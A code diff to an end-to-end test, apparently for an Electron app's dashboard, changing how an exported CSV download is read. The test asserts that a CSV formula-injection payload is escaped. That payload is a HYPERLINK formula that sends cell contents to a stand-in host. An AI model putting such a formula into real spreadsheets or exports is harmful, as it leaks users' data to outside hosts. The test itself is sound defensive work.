@@ -9,7 +9,7 @@ import { existsSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { beforeAll, describe, expect, it } from 'vitest';
 import type { RunMeta } from '../../electron/common';
-import { useDashboard } from './open-dashboard';
+import { downloadText, useDashboard } from './open-dashboard';
 import { ARTIFACTS, CHROMIUM, ROOT } from './serve-process';
 import { tinyRun } from '../helpers/tiny';
 
@@ -55,7 +55,7 @@ describe.skipIf(!existsSync(CHROMIUM))('a finished run in the dashboard', () => 
     const { page } = ui();
     await page.getByTestId('nav-history').click();
     const [d] = await Promise.all([page.waitForEvent('download', { timeout: 15_000 }), page.getByTestId('export-csv').click()]);
-    const text = readFileSync((await d.path())!, 'utf8');
+    const text = await downloadText(d);
     expect(text).toContain(`"'-2+3+HYPERLINK(""http://x.example/?q=""&A1,""o"")"`);
     expect(text).not.toMatch(/,"?-2\+3/);
   }, 60_000);
